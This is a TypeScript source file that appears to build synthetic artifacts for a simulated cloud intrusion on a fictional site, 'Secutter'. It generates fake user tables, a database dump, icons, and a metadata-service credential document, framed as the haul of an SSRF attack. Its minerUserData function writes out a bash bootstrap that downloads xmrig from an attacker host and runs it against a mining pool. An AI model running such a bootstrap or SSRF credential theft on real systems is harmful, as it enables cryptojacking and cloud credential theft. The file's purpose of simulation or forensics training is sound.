/** Small object bodies whose sizes CloudTrail records must quote: database dumps, icons, the stolen-credential "icon". */
import { gzipSync } from "node:zlib";
import { Rng } from "./prng.ts";
import { DOMAIN, IP } from "./world.ts";

/** Fixed gzip options: Node writes mtime 0 and no file name, so equal input gives equal bytes. */
export function gz(text: string | Buffer): Buffer {
  return gzipSync(text, { level: 6 });
}

const GIVEN = [
  "haruto",
  "yui",
  "sota",
  "hina",
  "ren",
  "mio",
  "yuto",
  "sakura",
  "riku",
  "aoi",
  "kaito",
  "rin",
  "hayato",
  "mei",
  "takumi",
  "akari",
  "kenta",
  "nana",
];
const FAMILY = ["sato", "suzuki", "takahashi", "tanaka", "ito", "watanabe", "yamamoto", "nakamura", "kobayashi", "kato", "yoshida", "yamada", "sasaki", "mori"];

export interface SiteUser {
  id: number;
  handle: string;
  email: string;
  hash: string;
  created: string;
}

/** The registered users of Secutter (ids 1…N); the last one is the attacker's throw-away account. */
export const SITE_USERS: SiteUser[] = (() => {
  const r = new Rng("site-users");
  const out: SiteUser[] = [];
  for (let id = 1; id <= 240; id++) {
    const handle = `${r.pick(GIVEN)}_${r.pick(FAMILY)}${r.int(1, 99)}`;
    out.push({
      id,
      handle,
      email: `${handle.replace("_", ".")}@${r.pick(["mail.example", "example.jp", "example.com", "example.net"])}`,
      hash: `$2y$10$${r.base64(53).replace(/\+/g, ".")}`,
      created: `2025-${String(r.int(1, 12)).padStart(2, "0")}-${String(r.int(1, 28)).padStart(2, "0")} ${String(r.int(0, 23)).padStart(2, "0")}:${String(r.int(0, 59)).padStart(2, "0")}:${String(r.int(0, 59)).padStart(2, "0")}`,
    });
  }
  return out;
})();

export const ATTACKER_SITE_USER = { id: 241, handle: "xmr_tester", email: "tester@mailinator.example" };

const dumpCache = new Map<string, Buffer>();

/** A mysqldump of the secutter database taken on a JST date (YYYYMMDD): fake but shaped like the real thing. */
export function dumpBody(date: string): Buffer {
  let b = dumpCache.get(date);
  if (!b) {
    const r = new Rng(`dump/${date}`);
    const users = SITE_USERS.map((u) => `(${u.id},'${u.handle}','${u.email}','${u.hash}','${u.created}')`);
    const posts: string[] = [];
    for (let i = 1; i <= 300; i++) {
      const u = r.pick(SITE_USERS);
      posts.push(
        `(${i},${u.id},'${r.pick(["おはよう", "今日も暑い", "ランチなう", "新作ゲーム楽しい", "眠い…", "週末どこ行こう", "Secutter最高"])}','2026-02-${String(r.int(1, 25)).padStart(2, "0")} 12:00:00',${r.int(0, 40)})`,
      );
    }
    const d = `${date.slice(0, 4)}-${date.slice(4, 6)}-${date.slice(6, 8)}`;
    const text = [
      "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)",
      "--",
      "-- Host: localhost    Database: secutter",
      "-- ------------------------------------------------------",
      "-- Server version\t8.0.36",
      "",
      "/*!40101 SET NAMES utf8mb4 */;",
      "DROP TABLE IF EXISTS `users`;",
      "CREATE TABLE `users` (\n  `id` int NOT NULL AUTO_INCREMENT,\n  `handle` varchar(32) NOT NULL,\n  `email` varchar(255) NOT NULL,\n  `password_hash` varchar(255) NOT NULL,\n  `created_at` datetime NOT NULL,\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;",
      `INSERT INTO \`users\` VALUES ${users.join(",")};`,
      "DROP TABLE IF EXISTS `posts`;",
      "CREATE TABLE `posts` (\n  `id` int NOT NULL AUTO_INCREMENT,\n  `user_id` int NOT NULL,\n  `body` varchar(280) NOT NULL,\n  `created_at` datetime NOT NULL,\n  `likes` int NOT NULL DEFAULT '0',\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;",
      `INSERT INTO \`posts\` VALUES ${posts.join(",")};`,
      `-- Dump completed on ${d}  3:30:02`,
      "",
    ].join("\n");
    b = gz(text);
    dumpCache.set(date, b);
  }
  return b;
}

/** A tiny but valid PNG header plus PRNG bytes: what a user's icon looks like in the listing. */
export function iconBody(seed: string): Buffer {
  const r = new Rng(`icon/${seed}`);
  const head = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
  const rest = Buffer.alloc(r.int(1800, 9000));
  for (let i = 0; i < rest.length; i++) rest[i] = r.int(0, 255);
  return Buffer.concat([head, rest]);
}

/** Length of an instance-profile session token in this recording. */
export const TOKEN_LEN = 397;

/** What the SSRF fetched from the instance metadata service and the app saved as the attacker's "icon". */
export function stolenCredentialBody(accessKeyId: string, secret: string, token: string, lastUpdated: string, expiration: string): Buffer {
  const doc = {
    Code: "Success",
    LastUpdated: lastUpdated,
    Type: "AWS-HMAC",
    AccessKeyId: accessKeyId,
    SecretAccessKey: secret,
    Token: token,
    Expiration: expiration,
  };
  return Buffer.from(`${JSON.stringify(doc, null, 2)}\n`);
}

/** A made-up wallet (not a real Monero address): "4" and 94 characters like the real format. */
export const WALLET = `4EXAMPLE${new Rng("wallet").alnum(87)}`;

/** The miner bootstrap the attacker passed as user data (the instance attribute stores it base64). */
export function minerUserData(): string {
  return [
    "#!/bin/bash",
    `curl -s http://${IP.minerHost}/xmrig -o /tmp/xmrig`,
    "chmod +x /tmp/xmrig",
    `nohup /tmp/xmrig -o ${DOMAIN.pool}:${DOMAIN.poolPort} -u ${WALLET} -p x --donate-level 1 -B >/dev/null 2>&1 &`,
    "",
  ].join("\n");
}

/** The size of the credential document: fixed-width fields make it the same for every anchor. */
export const STOLEN_BODY_LEN = stolenCredentialBody(
  "A".repeat(20),
  "s".repeat(40),
  "t".repeat(TOKEN_LEN),
  "2026-01-01T00:00:00Z",
  "2026-01-01T06:00:00Z",
).length;
